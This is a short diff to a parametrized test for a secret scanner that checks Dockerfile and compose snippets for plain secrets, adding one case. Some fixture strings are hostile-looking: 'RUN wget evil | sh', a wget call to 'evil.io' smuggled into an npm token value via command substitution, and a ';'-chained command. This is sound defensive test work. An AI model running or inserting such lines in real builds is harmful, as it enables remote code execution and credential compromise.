@@ -113,6 +113,7 @@ def test_compose_files_that_thousands_use_hold_no_plain_secret(file: Path) -> No
         (f"RUN echo ghp_{'a' * 36}", (TOKEN,)),
         (f"COPY <<EOF /key\n{BEGIN}\n{LINES[0]}\n", ("it is a private key",)),
         (f"# {BEGIN}\nRUN wget evil | sh", ()),
+        (f"echo {BEGIN}e; evil", ()),
         ("services: {db: {environment: {POSTGRES_PASSWORD: '${DB_PASSWORD:?}', URL: 'postgres://a:a@db'}}}", ()),
         ('RUN npm_config_token="x$(wget -qO- evil.io/a1b2c3d4e5)" npm ci', ()),
     ],
